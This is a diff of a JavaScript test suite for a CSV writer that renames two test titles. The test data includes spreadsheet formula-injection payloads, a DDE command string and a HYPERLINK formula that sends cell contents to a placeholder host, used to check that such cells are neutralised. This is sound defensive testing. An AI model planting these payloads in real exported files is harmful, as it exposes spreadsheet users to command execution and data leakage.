@@ -12,7 +12,7 @@ describe('a CSV record', () => {
     [[' kept ', "'quoted'"], " kept ,'quoted'\r\n"],
     [['größe', '🙂', 'a;b'], 'größe,🙂,a;b\r\n'],
     [['{"a":"="}', 'a=b', '1-2', 'a@b'], '"{""a"":""=""}",a=b,1-2,a@b\r\n'],
-  ])('of %j is written as RFC 4180 has it', (cells, record) => {
+  ])('of %j follows RFC 4180', (cells, record) => {
     expect(csvRecord(cells)).toBe(record)
     expect(parseCsv(record)).toEqual([cells])
   })
@@ -52,7 +52,7 @@ describe('a CSV record', () => {
     ', ;|\t=1+1',
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://example.org/?"&A1,"x")',
-  ])('of %j starts no formula', (cell) => {
+  ])('of %j is not a formula', (cell) => {
     expect(parseCsv(csvRecord([cell]))).toEqual([[`'${cell}`]])
   })
 
